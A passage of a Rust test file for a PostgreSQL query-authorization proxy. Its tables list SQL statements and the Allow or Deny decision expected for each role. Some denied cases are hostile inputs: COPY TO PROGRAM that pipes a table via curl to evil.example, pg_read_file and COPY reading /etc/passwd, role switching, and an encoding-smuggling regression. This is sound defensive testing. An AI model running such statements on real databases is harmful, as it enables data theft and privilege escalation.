        ("ts_stat_runs_query_text", "read", "SELECT * FROM ts_stat('SELECT to_tsvector(body) FROM docs')", Deny("executes the query text")),
        ("dangerous_function_in_subquery", "read", "SELECT (SELECT pg_terminate_backend(1))", Deny("pg_terminate_backend()")),
        ("dangerous_function_in_cte", "read", "WITH x AS (SELECT pg_reload_conf()) SELECT * FROM x", Deny("pg_reload_conf()")),
        ("dangerous_function_in_window", "read", "SELECT count(*) OVER (ORDER BY pg_cancel_backend(1)) FROM orders", Deny("pg_cancel_backend()")),
        ("dangerous_function_in_filter", "read", "SELECT count(*) FILTER (WHERE pg_terminate_backend(1)) FROM orders", Deny("pg_terminate_backend()")),
        ("dangerous_function_quoted", "read", "SELECT \"pg_read_file\"('/etc/passwd')", Deny("pg_read_file()")),
        ("dangerous_function_in_user_schema", "read", "SELECT evil.pg_read_file('/etc/passwd')", Deny("pg_read_file()")),
        ("stats_reset", "write", "SELECT pg_stat_reset()", Deny("resets server statistics")),
        // ---- DO / CALL -----------------------------------------------------------------------------
        ("do_block", "ddl", "DO $$ BEGIN DELETE FROM orders; END $$", Deny("")),
        ("do_block_for_read_role", "read", "DO $$ BEGIN PERFORM 1; END $$", Deny("")),
        ("call_procedure", "ddl", "CALL archive_orders()", Deny("needs admin access")),
        ("do_block_for_break_glass_admin", "admin", "DO $$ BEGIN PERFORM 1; END $$", Allow),
        ("call_procedure_for_admin", "admin_parsed", "CALL archive_orders()", Allow),
        // ---- settings: identity, server-wide, custom, search_path, lexing --------------------------
        ("set_role", "ddl", "SET ROLE postgres", Deny("identity and privileges")),
        ("set_local_role", "ddl", "SET LOCAL ROLE postgres", Deny("identity and privileges")),
        ("set_session_authorization", "ddl", "SET SESSION AUTHORIZATION postgres", Deny("identity and privileges")),
        ("set_role_via_set_config", "ddl", "SELECT set_config('role', 'postgres', false)", Deny("identity and privileges")),
        ("set_custom_setting_trusted_by_rls", "write", "SET app.tenant_id = '42'", Deny("custom setting")),
        ("set_server_setting", "write", "SET log_statement = 'none'", Deny("server-wide or unknown setting")),
        ("set_session_replication_role_disables_triggers", "write", "SET session_replication_role = replica", Deny("server-wide or unknown setting")),
        ("search_path_shadowing_builtins", "write", "SET search_path = evil, pg_catalog", Deny("shadow built-ins")),
        ("set_role_for_admin", "admin_parsed", "SET ROLE postgres", Allow),
        ("standard_conforming_strings_never", "admin", "SET standard_conforming_strings = off", Deny("never allowed")),
        ("standard_conforming_strings_never_via_set_config", "admin", "SELECT set_config('standard_conforming_strings', 'off', false)", Deny("never allowed")),
        ("backslash_quote_never", "admin", "SET backslash_quote = on", Deny("never allowed")),
        ("client_encoding_sjis_never", "admin", "SET client_encoding = 'SJIS'", Deny("never allowed")),
        ("set_names_latin1_never", "admin", "SET NAMES 'LATIN1'", Deny("never allowed")),
        // Regression (attack round on issue 16): a client_encoding the proxy cannot read smuggled the
        // next pipelined message past the policy in SJIS.
        ("client_encoding_cast_via_set_config_never", "admin", "SELECT set_config('client_encoding', 'SJIS'::text, false)", Deny("never allowed")),
        ("client_encoding_concat_via_set_config_never", "read", "SELECT set_config('client_encoding', 'SJ' || 'IS', false), pg_sleep(0.5)", Deny("never allowed")),
        ("client_encoding_named_args_never", "admin", "SELECT set_config(setting_name => 'client_encoding', new_value => lower('SJIS'), is_local => false)", Deny("never allowed")),
        ("client_encoding_utf8_via_set_config", "read", "SELECT set_config('client_encoding', 'UTF8', false)", Allow),
        ("search_path_not_literal_via_set_config", "write", "SELECT set_config('search_path', 'public, pg_' || 'catalog', false)", Deny("cannot tell whether pg_catalog stays first")),
        ("lexing_setting_hidden_in_a_batch", "admin", "SELECT 1; SET standard_conforming_strings = off; SELECT 2", Deny("never allowed")),
        // ---- DDL and admin statements ------------------------------------------------------------
        ("create_table", "write", "CREATE TABLE t (id int)", Deny("needs ddl access")),
        ("create_temp_table", "read", "CREATE TEMP TABLE t (id int)", Deny("needs ddl access")),
        ("drop_table", "write", "DROP TABLE orders", Deny("needs ddl access")),
        ("alter_table", "write", "ALTER TABLE orders ADD COLUMN note text", Deny("needs ddl access")),
        ("truncate", "write", "TRUNCATE orders", Deny("needs ddl access")),
        ("create_table_as", "write", "CREATE TABLE copy AS SELECT * FROM orders", Deny("needs ddl access")),
        ("select_into_creates_a_table", "write", "SELECT * INTO copy FROM orders", Deny("SELECT … INTO creates a table")),
        ("create_index", "write", "CREATE INDEX ON orders (created_at)", Deny("needs ddl access")),
        ("create_view", "write", "CREATE VIEW v AS SELECT * FROM orders", Deny("needs ddl access")),
        ("comment_on", "write", "COMMENT ON TABLE orders IS 'x'", Deny("needs ddl access")),
        ("refresh_materialized_view", "write", "REFRESH MATERIALIZED VIEW mv", Deny("needs ddl access")),
        ("create_function", "write", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", Deny("needs ddl access")),
        ("grant", "ddl", "GRANT SELECT ON orders TO bob", Deny("needs admin access")),
        ("revoke", "ddl", "REVOKE SELECT ON orders FROM bob", Deny("needs admin access")),
        ("create_role", "ddl", "CREATE ROLE bob LOGIN", Deny("needs admin access")),
        ("alter_role", "ddl", "ALTER ROLE bob SUPERUSER", Deny("needs admin access")),
        ("alter_table_owner", "ddl", "ALTER TABLE orders OWNER TO bob", Deny("OWNER TO")),
        ("vacuum", "ddl", "VACUUM orders", Deny("needs admin access")),
        ("analyze", "ddl", "ANALYZE orders", Deny("needs admin access")),
        ("create_extension", "ddl", "CREATE EXTENSION dblink", Deny("")),
        ("copy_to_program", "ddl", "COPY orders TO PROGRAM 'curl -d @- evil.example'", Deny("runs a shell command")),
        ("copy_from_program", "write", "COPY orders FROM PROGRAM 'id'", Deny("runs a shell command")),
        ("copy_from_server_file", "write", "COPY orders FROM '/etc/passwd'", Deny("reads a file on the database server")),
        ("copy_to_server_file", "read", "COPY orders TO '/tmp/orders.csv'", Deny("writes a file on the database server")),
        ("copy_query_to_program", "ddl", "COPY (SELECT 1) TO PROGRAM 'id'", Deny("runs a shell command")),
        ("prepare_transaction_leaves_locks", "ddl", "PREPARE TRANSACTION 'x'", Deny("")),
        ("alter_system", "ddl", "ALTER SYSTEM SET work_mem = '1GB'", Deny("")),
        ("alter_system_for_break_glass", "admin", "ALTER SYSTEM SET work_mem = '1GB'", Allow),
        ("checkpoint_unparsed_for_admin_without_allow_unparsed", "admin_parsed", "CHECKPOINT", Deny("could not be verified")),
        ("grant_for_admin", "admin_parsed", "GRANT SELECT ON orders TO bob", Allow),
        ("vacuum_for_admin", "admin_parsed", "VACUUM orders", Allow),
        // ---- write and ddl roles: what they may do ------------------------------------------------
        ("write_role_insert", "write", "INSERT INTO orders (id, total) VALUES ($1, $2)", Allow),
        ("write_role_pgbench_update", "write", "UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2;", Allow),
        ("write_role_delete_with_where", "write", "DELETE FROM orders WHERE id = 1", Allow),
        ("write_role_merge", "write", "MERGE INTO orders o USING staged s ON o.id = s.id WHEN MATCHED AND s.total > 0 THEN UPDATE SET total = s.total", Allow),
        ("write_role_copy_from_stdin", "write", "COPY orders FROM STDIN WITH (FORMAT csv)", Allow),
        ("write_role_nextval", "write", "SELECT nextval('orders_id_seq')", Allow),
        ("write_role_select_for_update", "write", "SELECT * FROM orders WHERE id = 1 FOR UPDATE", Allow),
        ("write_role_cte_dml_with_where", "write", "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) INSERT INTO archive SELECT * FROM d", Allow),
        ("write_role_begin_read_write", "write", "BEGIN READ WRITE", Allow),
        ("write_role_turns_read_only_off", "write", "SET default_transaction_read_only = off", Allow),
        ("write_role_user_defined_function", "write", "SELECT refresh_totals()", Allow),
        ("write_role_lock_table", "write", "LOCK TABLE orders IN SHARE MODE", Allow),
        ("write_role_delete_where_true_is_explicit", "write", "DELETE FROM orders WHERE true", Allow),
        ("where_current_of_known_limit", "write", "UPDATE orders SET total = 0 WHERE CURRENT OF c", Deny("sqlparser cannot parse it")),
        ("write_role_explain_update_without_where_only_plans", "write", "EXPLAIN UPDATE orders SET total = 0", Allow),
        ("write_role_insert_needs_no_where", "write", "INSERT INTO orders SELECT * FROM staged", Allow),
        ("require_where_update", "write", "UPDATE orders SET total = 0", Deny("has no WHERE clause")),
        ("require_where_delete", "write", "DELETE FROM public.orders", Deny("public.orders has no WHERE clause")),
        ("require_where_in_cte", "write", "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d", Deny("has no WHERE clause")),
        ("require_where_in_explain_analyze", "write", "EXPLAIN ANALYZE DELETE FROM orders", Deny("has no WHERE clause")),
        ("require_where_in_prepare", "write", "PREPARE p AS DELETE FROM orders", Deny("has no WHERE clause")),
        ("require_where_only_where_configured", "ddl", "DELETE FROM orders", Allow),
        // MERGE: an UPDATE/DELETE action is filtered by an ON condition (WHEN MATCHED) or its own AND
        // condition that names a column; a constant condition (true, 1=1, NOT false, 't'::bool) is none.
        ("require_where_merge_on_true", "write", "MERGE INTO orders o USING staged s ON true WHEN MATCHED THEN UPDATE SET total = 0", Deny("MERGE into orders")),
        ("require_where_merge_on_one_equals_one", "write", "MERGE INTO orders USING staged ON 1 = 1 WHEN MATCHED THEN DELETE", Deny("MERGE into orders")),
        ("require_where_merge_on_not_false", "write", "MERGE INTO orders USING staged ON NOT false WHEN MATCHED THEN DELETE", Deny("MERGE into orders")),
        ("require_where_merge_on_cast_true", "write", "MERGE INTO orders USING staged ON 't'::bool WHEN MATCHED THEN UPDATE SET total = 0", Deny("MERGE into orders")),
        ("require_where_merge_on_constant_subquery", "write", "MERGE INTO orders USING staged ON (SELECT true) WHEN MATCHED THEN DELETE", Deny("MERGE into orders")),
        ("require_where_merge_constant_action_condition", "write", "MERGE INTO orders USING staged ON true WHEN MATCHED AND 1 = 1 THEN DELETE", Deny("MERGE into orders")),
        ("require_where_merge_second_action_unfiltered", "write", "MERGE INTO orders o USING staged s ON true WHEN MATCHED AND s.total > 0 THEN UPDATE SET total = s.total WHEN MATCHED THEN DELETE", Deny("MERGE into orders")),
        ("require_where_merge_not_matched_by_source", "write", "MERGE INTO orders o USING staged s ON o.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE", Deny("MERGE into orders")),
        ("require_where_merge_in_explain_analyze", "write", "EXPLAIN ANALYZE MERGE INTO orders USING staged ON true WHEN MATCHED THEN DELETE", Deny("MERGE into orders")),
        ("require_where_merge_in_cte", "write", "WITH m AS (MERGE INTO orders USING staged ON true WHEN MATCHED THEN DELETE RETURNING *) SELECT count(*) FROM m", Deny("MERGE into orders")),
        ("require_where_merge_join_key_filters", "write", "MERGE INTO orders o USING staged s ON o.id = s.id WHEN MATCHED THEN DELETE", Allow),
        ("require_where_merge_action_condition_filters", "write", "MERGE INTO orders o USING staged s ON true WHEN MATCHED AND o.id = 1 THEN DELETE", Allow),
        ("require_where_merge_insert_only_touches_no_rows", "write", "MERGE INTO orders o USING staged s ON true WHEN NOT MATCHED THEN INSERT VALUES (s.id) WHEN MATCHED THEN DO NOTHING", Allow),
        ("require_where_merge_by_source_with_condition", "write", "MERGE INTO orders o USING staged s ON o.id = s.id WHEN NOT MATCHED BY SOURCE AND o.total = 0 THEN DELETE", Allow),
        ("require_where_merge_only_where_configured", "ddl", "MERGE INTO orders USING staged ON true WHEN MATCHED THEN DELETE", Allow),
        ("ddl_role_create_table", "ddl", "CREATE TABLE t (id int PRIMARY KEY, at timestamptz DEFAULT now())", Allow),
        ("ddl_role_drop_table", "ddl", "DROP TABLE IF EXISTS t", Allow),
        ("ddl_role_truncate", "ddl", "TRUNCATE orders", Allow),
        ("ddl_role_select_into", "ddl", "SELECT * INTO copy FROM orders", Allow),
        ("ddl_role_create_table_as_with_nextval", "ddl", "CREATE TABLE copy AS SELECT nextval('s') AS id", Allow),
        ("every_needed_class_must_be_allowed", "read_ddl", "CREATE TABLE copy AS SELECT nextval('s') AS id", Deny("needs write access")),
        ("read_ddl_role_create_table", "read_ddl", "CREATE TABLE t (id int)", Allow),
        // ---- unparsed ------------------------------------------------------------------------------
        ("typo_is_unparsed", "read", "SELEC 1", Deny("could not be verified")),
        ("unterminated_string_is_unparsed", "read", "SELECT 'abc", Deny("could not be verified")),
        ("unparsed_statement_in_a_batch_denies_all", "read", "SELECT 1; SELEC 2", Deny("could not be verified")),
        ("garbage_between_statements", "read", "SELECT 1; asdf; SELECT 2", Deny("could not be verified")),
        ("syntax_sqlparser_does_not_know", "read", "SET CONSTRAINTS ALL DEFERRED", Deny("sqlparser cannot parse it")),
        ("table_command_known_limit", "read", "TABLE orders", Deny("sqlparser cannot parse it")),
        ("unparsed_allowed_for_break_glass", "admin", "SELEC 1", Allow),
        ("allow_unparsed_does_not_skip_class_checks", "admin", "SELECT 1; SET standard_conforming_strings = off", Deny("never allowed")),
        // ---- table rules -----------------------------------------------------------------------------
        ("tables_unqualified_in_public", "tables", "SELECT * FROM orders", Allow),
        ("tables_qualified_public", "tables", "SELECT * FROM public.orders o JOIN sales.leads l ON l.order_id = o.id", Allow),
        ("tables_deny_unqualified", "tables", "SELECT * FROM secrets", Deny("public.secrets")),
        ("tables_deny_qualified", "tables", "SELECT * FROM public.secrets", Deny("tables.deny")),
        ("tables_deny_folded_case", "tables", "SELECT * FROM PUBLIC.SECRETS", Deny("tables.deny")),
        ("tables_deny_quoted", "tables", "SELECT * FROM \"public\".\"secrets\"", Deny("tables.deny")),
        ("tables_quoted_upper_case_is_another_table", "tables", "SELECT * FROM \"Secrets\"", Allow),
        ("tables_unicode_escape_identifier", "tables", "SELECT * FROM U&\"secr\\0065ts\"", Deny("")),
        ("tables_not_in_allow", "tables", "SELECT * FROM hr.salaries", Deny("outside role tables's tables.allow")),
        ("tables_deny_glob_schema", "tables", "SELECT * FROM sales.audit_log", Deny("*.audit_log")),
        ("tables_deny_in_join", "tables", "SELECT * FROM orders JOIN secrets ON true", Deny("secrets")),
        ("tables_deny_in_subquery", "tables", "SELECT * FROM orders WHERE id IN (SELECT order_id FROM secrets)", Deny("secrets")),
        ("tables_deny_in_cte_body", "tables", "WITH s AS (SELECT * FROM secrets) SELECT * FROM s", Deny("secrets")),
        ("tables_cte_name_shadows_table", "tables", "WITH secrets AS (SELECT 1 AS x) SELECT * FROM secrets", Allow),
        ("tables_cte_body_self_reference_is_the_table", "tables", "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets", Deny("secrets")),
        ("tables_later_cte_not_visible_in_earlier", "tables", "WITH a AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM a", Deny("secrets")),
        ("tables_recursive_cte_self_reference", "tables", "WITH RECURSIVE secrets(n) AS (SELECT 1 UNION ALL SELECT n FROM secrets WHERE false) SELECT * FROM secrets", Allow),
        ("tables_cte_scope_ends_with_subquery", "tables", "SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) x, secrets", Deny("secrets")),
        ("tables_catalog_name_resolves_to_pg_catalog", "tables", "SELECT * FROM pg_authid", Deny("pg_authid")),
        ("tables_catalog_qualified", "tables", "SELECT rolpassword FROM pg_catalog.pg_authid", Deny("pg_authid")),
        ("tables_search_path_change_denied", "tables", "SET search_path = hr", Deny("search_path is not allowed")),
        ("tables_search_path_via_set_config", "tables", "SELECT set_config('search_path', 'hr', false)", Deny("search_path is not allowed")),
        ("tables_reset_search_path_is_fine", "tables", "RESET search_path", Allow),
        ("tables_search_path_public_is_what_the_rules_assume", "tables", "SET search_path = public", Allow),
        ("tables_search_path_dollar_user_denied", "tables", "SET search_path = \"$user\", public", Deny("search_path is not allowed")),
        // PostgreSQL searches pg_catalog before public: an unqualified pg_* name is the catalog's.
        ("tables_unqualified_catalog_view_is_pg_catalog", "tables", "SELECT * FROM pg_stats", Deny("pg_catalog.NAME")),
        ("tables_unqualified_catalog_table_is_pg_catalog", "tables", "SELECT relname FROM pg_class", Deny("outside role tables's tables.allow")),
        ("tables_qualified_public_pg_name", "tables", "SELECT * FROM public.pg_notes", Allow),
        ("tables_copy_denied_table", "tables", "COPY secrets TO STDOUT", Deny("secrets")),
        ("tables_cursor_over_denied_table", "tables", "DECLARE c CURSOR FOR SELECT * FROM secrets", Deny("secrets")),
        ("tables_prepare_over_denied_table", "tables", "PREPARE p AS SELECT * FROM secrets", Deny("secrets")),
        ("tables_explain_of_denied_table", "tables", "EXPLAIN SELECT * FROM secrets", Deny("secrets")),
        ("tables_allowed_function", "tables", "SELECT report_totals()", Allow),
        ("tables_allowed_function_public_qualified", "tables", "SELECT public.report_totals()", Allow),
        ("tables_allowed_function_in_schema", "tables", "SELECT app.safe_fn(1)", Allow),
        ("tables_unlisted_function", "tables", "SELECT other_fn()", Deny("allow_functions")),
        ("user_function_named_like_a_privilege_check", "read", "SELECT has_secret_access()", Deny("has_secret_access()")),
        ("privilege_checks_are_builtins", "read", "SELECT has_table_privilege('orders', 'SELECT'), has_schema_privilege('public', 'USAGE'), has_any_column_privilege('orders', 'SELECT')", Allow),
        ("tables_allow_functions_cannot_downgrade_nextval", "tables", "SELECT report_totals(nextval('s'))", Deny("nextval()")),
        ("tables_function_reading_table_by_name", "tables", "SELECT table_to_xml('secrets', true, false, '')", Deny("needs admin access")),
        // ---- a role that allows nothing ------------------------------------------------------------
        ("nothing_role_denies_reads", "nothing", "SELECT 1", Deny("allows only nothing")),
        ("nothing_role_empty_query", "nothing", "", Allow),
    ];

    #[test]
    fn table_of_decisions() {
        assert!(CASES.len() >= 200, "only {} cases", CASES.len());
        let mut names = std::collections::HashSet::new();
        let mut failures = Vec::new();
        for (name, role_key, sql, expected) in CASES {
            assert!(names.insert(*name), "duplicate case name {name}");
            let decision = authorize_all(&role(role_key), &classify(sql));
            let ok = match (expected, &decision) {
                (Allow, Decision::Allow) => true,
                (Deny(text), Decision::Deny { reason, hint }) => {
                    !hint.is_empty() && (reason.contains(text) || hint.contains(text))
                }
                _ => false,
            };
            if !ok {
                failures.push(format!("{name} [{role_key}] {sql:?}\n    got {decision}"));
            }
        }
        assert!(
            failures.is_empty(),
            "{} of {} cases failed:\n{}",
            failures.len(),
            CASES.len(),
            failures.join("\n")
        );
    }

    #[test]
    fn a_deny_everything_policy_fails_the_benign_rows() {
        let allowed = CASES.iter().filter(|(_, _, _, e)| matches!(e, Allow)).count();
        assert!(allowed >= 90, "only {allowed} benign cases");
    }

    /// (what it guards against, role, target's major version, SQL, expected decision): the
    /// classifier's grammar (PostgreSQL 18) against older targets, which call functions by name where
    /// it sees built-in syntax or built-ins they do not have (issue 16, finding 2).
    #[rustfmt::skip]
    pub(super) const VERSION_CASES: &[(&str, &str, u32, &str, E)] = &[
        ("json_array_is_a_user_function_on_15", "read", 15, "SELECT JSON_ARRAY(1, 2)", Deny("json_array")),
        ("json_array_lower_case_on_15", "read", 15, "select json_array(1, 2)", Deny("PostgreSQL 15")),
        ("json_array_subquery_on_15", "read", 15, "SELECT JSON_ARRAY(SELECT 1)", Deny("json_array")),
        ("json_array_builtin_on_16", "read", 16, "SELECT JSON_ARRAY(1, 2)", Allow),
        ("json_array_on_unknown_version_is_oldest", "read", 13, "SELECT JSON_ARRAY(1, 2)", Deny("json_array")),
        ("json_object_on_15", "read", 15, "SELECT JSON_OBJECT('a' : 1)", Deny("json_object")),
        ("json_arrayagg_on_15", "read", 15, "SELECT JSON_ARRAYAGG(id) FROM orders", Deny("json_arrayagg")),
        ("json_objectagg_on_15", "read", 15, "SELECT JSON_OBJECTAGG(k : v) FROM kv", Deny("json_objectagg")),
        ("json_scalar_on_15", "read", 15, "SELECT json_scalar(1)", Deny("json_scalar")),
        ("json_scalar_on_16", "read", 16, "SELECT JSON_SCALAR(1)", Deny("since PostgreSQL 17")),
        ("json_scalar_builtin_on_17", "read", 17, "SELECT JSON_SCALAR(1)", Allow),
        ("json_serialize_nested_in_a_call_on_16", "read", 16, "SELECT lower(JSON_SERIALIZE('1'))", Deny("json_serialize")),
        ("json_parse_on_16", "read", 16, "SELECT JSON('{}')", Deny("function named json,")),
        ("json_value_on_15", "read", 15, "SELECT JSON_VALUE('{\"a\": 1}', '$.a')", Deny("json_value")),
        ("json_value_builtin_on_18", "read", 18, "SELECT JSON_VALUE('{\"a\": 1}', '$.a')", Allow),
        ("json_query_on_16", "read", 16, "SELECT JSON_QUERY('[1]', '$[0]')", Deny("json_query")),
        ("json_exists_in_where_on_16", "read", 16, "SELECT 1 WHERE JSON_EXISTS('{}', '$.a')", Deny("json_exists")),
        ("json_table_on_16", "read", 16, "SELECT * FROM JSON_TABLE('[1]', '$[*]' COLUMNS (a int PATH '$')) t", Deny("json_table")),
        ("merge_action_on_15", "read", 15, "SELECT MERGE_ACTION()", Deny("merge_action")),
        ("merge_action_upper_and_lower_on_16", "read", 16, "SELECT Merge_Action()", Deny("merge_action")),
        ("is_json_needs_16", "read", 15, "SELECT '{}' IS JSON", Deny("needs PostgreSQL 16")),
        ("is_json_needs_16_for_admins_too", "admin", 15, "SELECT '{}' IS JSON", Deny("needs PostgreSQL 16")),
        ("user_function_allowed_for_write_roles", "write", 15, "SELECT JSON_ARRAY(1, 2)", Allow),
        ("user_function_allow_listed", "json_fn", 15, "SELECT JSON_ARRAY(1, 2)", Allow),
        ("allow_list_names_one_function", "json_fn", 15, "SELECT JSON_SCALAR(1)", Deny("json_scalar")),
        ("casefold_is_a_user_function_on_17", "read", 17, "SELECT casefold('A')", Deny("casefold()")),
        ("casefold_builtin_on_18", "read", 18, "SELECT casefold('A')", Allow),
        ("qualified_builtin_cannot_reach_a_user_function", "read", 17, "SELECT pg_catalog.casefold('A')", Allow),
        ("any_value_on_15", "read", 15, "SELECT any_value(id) FROM orders", Deny("any_value()")),
        ("any_value_on_16", "read", 16, "SELECT any_value(id) FROM orders", Allow),
        ("regexp_like_on_14", "read", 14, "SELECT regexp_like('a', 'a')", Deny("regexp_like()")),
        ("regexp_like_on_15", "read", 15, "SELECT regexp_like('a', 'a')", Allow),
        ("system_user_is_no_user_function", "read", 15, "SELECT SYSTEM_USER", Allow),
        ("harmless_json_read_on_15", "read", 15, "SELECT json_build_array(1, 2), jsonb_path_query('{}', '$'), data->>'a' FROM orders", Allow),
        ("harmless_read_on_13", "read", 13, "SELECT count(*) FROM orders WHERE id = 1", Allow),
    ];

    #[test]
    fn table_of_decisions_by_target_version() {
        let mut names = std::collections::HashSet::new();
        let mut failures = Vec::new();
        for (name, role_key, major, sql, expected) in VERSION_CASES {
            assert!(names.insert(*name), "duplicate case name {name}");
            let role = match *role_key {
                "json_fn" => {
                    let mut r = RolePolicy::with_classes("json_fn", &[Read]);
                    r.allow_functions = vec!["json_array".into()];
                    r
                }
                other => role(other),
            };
            let decision = authorize_all_on(&role, ServerVersion(*major), &classify(sql));
            let ok = match (expected, &decision) {
                (Allow, Decision::Allow) => true,
                (Deny(text), Decision::Deny { reason, hint }) => {
                    !hint.is_empty() && (reason.contains(text) || hint.contains(text))
                }
                _ => false,
            };
            if !ok {
                failures.push(format!(
                    "{name} [{role_key} on {major}] {sql:?}\n    got {decision}"
                ));
            }
        }
        assert!(
            failures.is_empty(),
            "{} failed:\n{}",
            failures.len(),
            failures.join("\n")
        );
    }

    /// Every newer construct is a user function on every supported target before its version and
    /// a built-in from it on.
    #[test]
    fn every_supported_version_decides_each_construct() {
        let read = role("read");
        for (sql, since) in [
            ("SELECT JSON_ARRAY(1)", 16),
            ("SELECT JSON_OBJECT('a' : 1)", 16),
            ("SELECT JSON_SCALAR(1)", 17),
            ("SELECT JSON_QUERY('[1]', '$')", 17),
            ("SELECT MERGE_ACTION()", 17),
            ("SELECT uuidv7()", 18),
        ] {
            let c = classify(sql);
            for server in ServerVersion::SUPPORTED {
                let allowed = authorize_all_on(&read, server, &c).is_allow();
                assert_eq!(allowed, server.0 >= since, "{sql} on {server}");
            }
        }
    }

    /// (what it guards against, SQL, expected class of the whole message)
    pub(super) const CLASSES: &[(&str, &str, StatementClass)] = &[
        ("select_is_read", "SELECT * FROM t", Read),
        ("show_is_read", "SHOW search_path", Read),
        ("explain_is_read", "EXPLAIN SELECT 1", Read),
        ("insert_is_write", "INSERT INTO t VALUES (1)", Write),
        ("lock_is_write", "LOCK t", Write),
        (
            "cte_delete_is_write",
            "WITH x AS (DELETE FROM t RETURNING 1) SELECT 1",
            Write,
        ),
        ("for_update_is_write", "SELECT 1 FROM t FOR UPDATE", Write),
        (
            "explain_analyze_takes_inner_class",
            "EXPLAIN ANALYZE INSERT INTO t VALUES (1)",
            Write,
        ),
        (
            "explain_analyze_ctas_is_ddl",
            "EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1",
            Ddl,
        ),
        ("select_into_is_ddl", "SELECT 1 INTO x", Ddl),
        ("create_table_as_is_ddl", "CREATE TABLE x AS SELECT 1", Ddl),
        (
            "materialized_view_is_ddl",
            "CREATE MATERIALIZED VIEW mv AS SELECT 1",
            Ddl,
        ),
        ("truncate_is_ddl", "TRUNCATE t", Ddl),
        ("grant_is_admin", "GRANT SELECT ON t TO x", Admin),
        ("copy_program_is_admin", "COPY t TO PROGRAM 'x'", Admin),
        ("unknown_function_is_write", "SELECT f()", Write),
        (
            "dangerous_beats_write",
            "SELECT nextval('s'), pg_terminate_backend(1)",
            Admin,
        ),
        ("typo_is_unparsed", "SELEC 1", Unparsed),
        (
            "highest_over_statements",
            "SELECT 1; DROP TABLE t; INSERT INTO t VALUES (1)",
            Ddl,
        ),
        ("empty_is_read", "", Read),
    ];

    #[test]
    fn table_of_classes() {
        let mut failures = Vec::new();
        for (name, sql, class) in CLASSES {
            let got = classify(sql).class();
            if got != *class {
                failures.push(format!("{name}: {sql:?} is {got}, expected {class}"));
            }
        }
        assert!(failures.is_empty(), "{}", failures.join("\n"));
    }

    fn one(sql: &str) -> StatementInfo {
        let c = classify(sql);
        assert_eq!(c.statements.len(), 1, "{sql}: {c:?}");
        c.statements.into_iter().next().unwrap()
    }

    #[test]
    fn statement_spans_point_into_the_text() {
        let sql = "SELECT 1;  /* c */ DELETE FROM t WHERE id = 2 ;\nSHOW x";
        let c = classify(sql);
        let texts: Vec<&str> = c.statements.iter().map(|s| sql[s.span.clone()].trim()).collect();
        assert_eq!(
            texts,
            ["SELECT 1", "DELETE FROM t WHERE id = 2", "SHOW x"],
            "spans start at the first token"
        );
        let kinds: Vec<&str> = c.statements.iter().map(|s| s.kind.as_str()).collect();
        assert_eq!(kinds, ["SELECT", "DELETE", "SHOW"]);
    }

    #[test]
    fn relations_are_folded_schema_qualified_as_written_and_deduplicated() {
        let s = one("SELECT * FROM Sales.Orders o JOIN \"Mixed\".\"Case\" m ON true JOIN orders ON true JOIN sales.orders x ON true");
        let rels: Vec<String> = s.relations.iter().map(|r| r.to_string()).collect();
        assert_eq!(rels, ["sales.orders", "\"Mixed\".\"Case\"", "orders"]);
        let s = one("WITH x AS (SELECT 1) SELECT * FROM x, y");
        assert_eq!(
            s.relations,
            [Relation {
                schema: None,
                name: "y".into()
            }],
            "CTE names are not relations"
        );
        let s = one("DROP TABLE a, s.b");
        let rels: Vec<String> = s.relations.iter().map(|r| r.to_string()).collect();
        assert_eq!(rels, ["a", "s.b"]);
    }

    #[test]
    fn functions_are_listed_and_unknown_ones_kept_apart() {
        let s = one("SELECT lower(a), pg_catalog.now(), my_fn(b), app.other(c) FROM t");
        assert_eq!(s.functions, ["lower", "pg_catalog.now", "my_fn", "app.other"]);
        assert_eq!(s.unknown_functions, ["my_fn", "app.other"]);
        assert_eq!(s.class, Write);
        assert_eq!(s.needs(), [Read], "unknown functions are decided by the role");
    }

    #[test]
    fn flags_for_the_relay() {
        let s = one("PREPARE get(int) AS SELECT * FROM t WHERE id = $1");
        assert_eq!((s.prepare_name.as_deref(), s.class), (Some("get"), Read));
        assert_eq!(one("EXECUTE get(1)").execute_name.as_deref(), Some("get"));
        assert_eq!(
            one("EXPLAIN ANALYZE EXECUTE get(1)").execute_name.as_deref(),
            Some("get")
        );
        assert_eq!(
            one("DEALLOCATE get").deallocate,
            Some(Deallocate::Name("get".into()))
        );
        assert_eq!(one("DEALLOCATE ALL").deallocate, Some(Deallocate::All));
        assert_eq!(
            one("DECLARE cur CURSOR FOR SELECT 1").declare_cursor.as_deref(),
            Some("cur")
        );
        let s = one("COPY t FROM STDIN");
        assert_eq!(
            (s.copy_direction, s.copy_program_or_file),
            (Some(CopyDirection::From), false)
        );
        let s = one("COPY t TO '/tmp/x'");
        assert_eq!(
            (s.copy_direction, s.copy_program_or_file),
            (Some(CopyDirection::To), true)
        );
        assert!(one("BEGIN READ WRITE").begin_read_write);
        assert!(!one("BEGIN").begin_read_write);
        assert!(one("EXPLAIN (ANALYZE, BUFFERS) SELECT 1").explain_analyze);
        assert!(!one("EXPLAIN (ANALYZE 0) SELECT 1").explain_analyze);
        assert_eq!(one("UPDATE t SET a = 1 WHERE b = 2").has_where, Some(true));
        assert_eq!(one("DELETE FROM t").has_where, Some(false));
        assert_eq!(one("SELECT 1").has_where, None);
    }

    #[test]
    fn settings_are_reported_with_their_values() {
        let s = one("SET LOCAL statement_timeout = '5s'");
        assert_eq!(
            s.sets,
            [SettingChange {
                name: "statement_timeout".into(),
                value: SetValue::Value("5s".into()),
                local: true,
                via: "SET"
            }]
        );
        assert_eq!(one("RESET TimeZone").sets[0].value, SetValue::Default);
        assert_eq!(one("RESET ALL").sets[0].name, "all");
        let s = one("SELECT set_config('application_name', 'x', false)");
        assert_eq!(
            (s.sets[0].name.as_str(), s.sets[0].via),
            ("application_name", "set_config()")
        );
        let s = one("SET search_path TO a, \"B\"");
        assert_eq!(s.sets[0].value, SetValue::Value("a, B".into()));
        let s = one("SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY");
        assert_eq!(s.sets[0].name, "default_transaction_read_only");
        assert_eq!(s.class, Read);
    }

    #[test]
